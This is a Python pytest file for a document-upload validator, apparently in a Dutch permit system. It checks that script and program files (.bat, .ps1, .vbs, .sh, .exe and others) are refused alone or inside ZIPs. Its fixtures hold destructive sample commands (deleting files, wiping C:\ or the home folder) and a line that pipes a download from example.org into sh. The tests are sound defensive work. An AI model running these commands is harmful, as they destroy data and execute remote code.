"""A file whose name ends in a program's or script's extension is refused whatever its content (the
session note on uploads, item 1): a .bat or .ps1 is plain text, so a type that takes text/plain
(correspondentie) took it, uploaded alone or in a ZIP of a type that also takes ZIPs. Refused after the
checks of the content, with a code of its own, naming the file; a plain .txt letter still passes."""

from __future__ import annotations

import pytest

from processes.errors import ValidationError
from services.documents import mime
from services.documents.storage import LocalBlobStore
from services.documents.types import document_typen
from tests.integration.document_helpers import pdf
from tests.unit.documents.test_upload_content import BIJLAGE, RUIM, staged
from tests.unit.documents.upload_samples import zip_of

CORRESPONDENTIE = document_typen().type("vergunning_klein", "correspondentie")
#: (file name, its extension, its content): plain text, each of them
SCRIPTS = [
    ("start.bat", "bat", b"@echo off\r\ndel /q *\r\n"),
    ("OPSCHONEN.CMD", "cmd", b"rd /s /q C:\\\r\n"),
    ("opschonen.ps1", "ps1", b"Remove-Item -Recurse -Force ~"),
    ("brief.js", "js", b'new ActiveXObject("WScript.Shell").Run("cmd");'),
    ("brief.vbs", "vbs", b'CreateObject("WScript.Shell").Run "cmd"'),
    ("brief.hta", "hta", b"<html><script>new ActiveXObject('WScript.Shell')</script></html>"),
    ("installeer.sh", "sh", b"curl -s http://example.org/x | sh\n"),
    ("start.bat. ", "bat", b"@echo off\r\n"),  # Windows saves it as start.bat
    ("brief.txt.wsf", "wsf", b'<job><script language="JScript">WScript.Echo(1)</script></job>'),
    (
        "instellingen.reg",
        "reg",
        b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software]\r\n",
    ),
]


@pytest.mark.parametrize(("name", "extension", "content"), SCRIPTS, ids=[s[0] for s in SCRIPTS])
def test_a_script_is_refused_by_its_name_though_its_type_takes_text(
    tmp_path, name, extension, content
) -> None:
    with pytest.raises(ValidationError) as exc:
        staged(tmp_path, content, name, CORRESPONDENTIE)
    assert exc.value.code == "document-uitvoerbare-extensie", exc.value.detail
    assert exc.value.detail.startswith(f"'{name}' heeft de extensie .{extension}: een computer voert")
    assert "wat de inhoud ook is" in exc.value.detail and exc.value.extra == {"extensie": extension}
    assert list(LocalBlobStore(tmp_path).iter_files()) == []


@pytest.mark.parametrize(("name", "extension", "content"), SCRIPTS, ids=[s[0] for s in SCRIPTS])
def test_a_script_in_a_zip_is_refused_by_its_name(tmp_path, name, extension, content) -> None:
    stukken = zip_of(("LEESMIJ.txt", b"Zie de tekening."), ("gevel.pdf", pdf("gevel")), (name, content))
    with pytest.raises(ValidationError) as exc:
        staged(tmp_path, stukken, "stukken.zip", RUIM)
    assert exc.value.code == "document-zip-uitvoerbare-extensie", exc.value.detail
    assert exc.value.detail.startswith(f"'{name}' in 'stukken.zip' heeft de extensie .{extension}")
    assert exc.value.extra == {"extensie": extension, "bestand": name}


@pytest.mark.parametrize(
    "entry", ["scripts\\start.bat", "scripts/start.bat", "leeg.lnk"], ids=["backslash", "folder", "empty"]
)
def test_a_scripts_folder_or_an_empty_shortcut_in_a_zip_is_refused(tmp_path, entry) -> None:
    content = b"" if entry.endswith(".lnk") else b"@echo off\r\n"
    with pytest.raises(ValidationError) as exc:
        staged(tmp_path, zip_of((entry, content)), "stukken.zip", RUIM)
    assert exc.value.code == "document-zip-uitvoerbare-extensie", exc.value.detail


def test_a_pdf_named_as_a_program_is_refused_too(tmp_path) -> None:
    with pytest.raises(ValidationError) as exc:
        staged(tmp_path, pdf("plan"), "plan.pdf.exe")
    assert exc.value.code == "document-uitvoerbare-extensie" and "'plan.pdf.exe'" in exc.value.detail
    assert staged(tmp_path, pdf("plan"), "plan.pdf") == "application/pdf"


@pytest.mark.parametrize(
    "name", ["brief.txt", "batterij.txt", "script.js.txt", "Brief aan de heer Bat", "exe"]
)
def test_a_letter_in_plain_text_still_passes(tmp_path, name) -> None:
    assert staged(tmp_path, b"Geachte heer,\r\n\r\nmet vriendelijke groet", name, CORRESPONDENTIE)
    assert staged(tmp_path, zip_of((name, b"Zie de tekening.")), "stukken.zip", RUIM) == "application/zip"


def test_the_contents_refusals_come_first_as_they_say_more(tmp_path) -> None:
    """A shell script by its first bytes is an executable; a script to a type without text is the wrong
    type: both kept their refusals."""
    with pytest.raises(ValidationError) as exc:
        staged(tmp_path, b"#!/bin/sh\nrm -rf ~\n", "start.sh", CORRESPONDENTIE)
    assert exc.value.code == "document-uitvoerbaar"
    with pytest.raises(ValidationError) as exc:
        staged(tmp_path, b"@echo off\r\n", "start.bat", BIJLAGE)
    assert exc.value.code == "document-verkeerd-type"


def test_the_extension_is_read_as_windows_reads_it() -> None:
    assert mime.executable_extension("Start.BAT") == "bat"
    assert mime.executable_extension("map\\start.ps1 . .") == "ps1"
    assert mime.executable_extension(".bat") == "bat"
    assert mime.executable_extension("brief.bat.txt") is None
    assert mime.executable_extension("bat") is None
